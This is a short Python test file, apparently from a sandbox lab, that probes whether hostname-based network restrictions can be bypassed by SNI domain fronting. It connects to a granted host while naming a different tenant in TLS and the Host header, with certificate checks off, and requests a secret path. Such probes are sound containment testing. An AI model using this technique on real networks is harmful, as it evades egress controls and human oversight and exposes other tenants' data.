"""connects to the granted host and names another in TLS"""

from evidence import other_tenant_asked as succeeded

SHAPE = "domain fronting by SNI: one edge, many sites"
PROMISE = "P27"
LAB = True
WALLS = "network-names"
OPTIONS = {"hosts": ["tenant-a.rwlab.net"]}
PYTHON = """
import socket, ssl
context = ssl._create_unverified_context()
line = context.wrap_socket(socket.create_connection(("tenant-a.rwlab.net", 443), 30), server_hostname="tenant-b.rwlab.net")
line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: tenant-b.rwlab.net\\r\\n\\r\\n")
line.recv(999)
"""
